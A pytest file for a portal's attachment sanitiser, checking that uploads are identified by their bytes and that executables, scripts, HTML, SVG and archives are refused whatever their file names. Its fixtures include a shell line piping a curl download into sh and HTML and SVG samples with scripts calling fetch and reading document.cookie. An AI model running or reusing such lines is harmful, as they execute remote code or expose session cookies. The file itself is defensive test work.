"""The kind of a file is decided by its bytes; names and declared types decide nothing."""

from __future__ import annotations

import contextlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from portal.attachments import (
    AttachmentError,
    AttachmentLimits,
    ContentType,
    EmptyFile,
    UnsupportedType,
    Upload,
    sanitise_attachment,
    sniff,
)

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"\x80\x00\x00\x00" + b"PE\x00\x00" * 20
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100
SHELL = b"#!/bin/sh\ncurl https://example.org/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>fetch('//example.org')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
ZIP = (
    b"PK\x03\x04\x14\x00\x00\x00\x08\x00"
    + b"\x00" * 16
    + b"\x08\x00\x00\x00notes.md"
    + b"\x00" * 40
)
DOCX = b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + b"\x00" * 16 + b"\x13\x00\x00\x00[Content_Types].xml"
ODT = b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"\x00" * 16 + b"\x08\x00\x00\x00mimetype" + b"x" * 40
DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200
MP4 = b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + b"\x00" * 64
AVIF = b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00" * 64
BMP = b"BM" + b"\x00" * 60
TIFF = b"II*\x00" + b"\x00" * 60


@pytest.mark.parametrize(
    ("data", "detected"),
    [
        (ELF, None),
        (PE, None),
        (MACH_O, None),
        (SHELL, None),
        (HTML, None),
        (SVG, None),
        (ZIP, None),
        (DOCX, "office"),
        (ODT, "office"),
        (DOC, "office"),
        (MP4, "audio_video"),
        (AVIF, "avif"),
        (BMP, None),
        (TIFF, None),
        (b"just some text", None),
    ],
    ids=[
        "elf",
        "pe",
        "mach-o",
        "shell",
        "html",
        "svg",
        "zip",
        "docx",
        "odt",
        "doc",
        "mp4",
        "avif",
        "bmp",
        "tiff",
        "text",
    ],
)
def test_refused_whatever_the_name(data: bytes, detected: str | None) -> None:
    for name in ("photo.jpg", "report.pdf", "IMG_0001.png"):
        with pytest.raises(UnsupportedType) as raised:
            sanitise_attachment(Upload(name, data))
        assert raised.value.code == "unsupported_type"
        assert raised.value.detected == detected
        assert name not in str(raised.value)


def test_empty_upload_is_its_own_error() -> None:
    with pytest.raises(EmptyFile) as raised:
        sniff(b"")
    assert raised.value.code == "empty_file"


def test_accepted_by_content_not_by_name(
    encode: Callable[..., bytes], simple_pdf: Callable[..., bytes]
) -> None:
    png = encode(Image.new("RGB", (8, 8), "white"), "PNG")
    assert sanitise_attachment(Upload("invoice.pdf", png)).media_type == "image/png"
    assert sanitise_attachment(Upload("holiday.jpg", simple_pdf())).kind == "pdf"


@pytest.mark.parametrize(
    ("fmt", "expected"),
    [
        ("JPEG", ContentType.JPEG),
        ("PNG", ContentType.PNG),
        ("GIF", ContentType.GIF),
        ("WEBP", ContentType.WEBP),
    ],
)
def test_image_signatures(encode: Callable[..., bytes], fmt: str, expected: ContentType) -> None:
    assert sniff(encode(Image.new("RGB", (4, 4)), fmt)) is expected


@given(st.binary(max_size=2048))
def test_sniffing_arbitrary_bytes_never_crashes(data: bytes) -> None:
    with contextlib.suppress(AttachmentError):
        assert isinstance(sniff(data), ContentType)


SIGNATURES = [
    b"\xff\xd8\xff",
    b"\x89PNG\r\n\x1a\n",
    b"GIF89a",
    b"%PDF-1.7\n",
    b"RIFF\x00\x00\x00\x00WEBP",
]


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(SIGNATURES), st.binary(max_size=4096))
def test_malformed_files_raise_only_attachment_errors(signature: bytes, tail: bytes) -> None:
    # A crafted upload must end in a refusal the reporter can read, never in a server error.
    with contextlib.suppress(AttachmentError):
        sanitise_attachment(Upload("x", signature + tail), AttachmentLimits())
